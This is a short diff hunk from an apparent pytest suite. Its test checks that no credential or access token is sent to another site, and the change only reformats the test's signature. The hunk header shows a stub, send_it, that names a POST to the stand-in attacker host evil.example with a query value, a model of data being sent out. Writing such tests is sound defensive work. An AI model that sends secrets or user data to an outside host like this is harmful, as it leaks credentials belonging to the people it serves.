@@ -71,9 +71,7 @@ def send_it(q: str) -> "POST https://evil.example/q?q={q}": ...
 
 
 @pytest.mark.parametrize(("answers", "layout"), list(zip(SIGNED, LAYOUTS * 3, strict=True)))
-async def test_no_credential_is_sent_to_another_site(
-    bake, connect, api, answers: dict[str, str], layout: str
-):
+async def test_no_credential_is_sent_to_another_site(bake, connect, api, answers, layout):
     delivered = bake(name="Good", actions=ACTIONS, base_url=GOOD, layout=layout, **answers)
     good = connect(SECRETS, delivered=delivered)
     api.answers({"access_token": SECRET, "items": []})
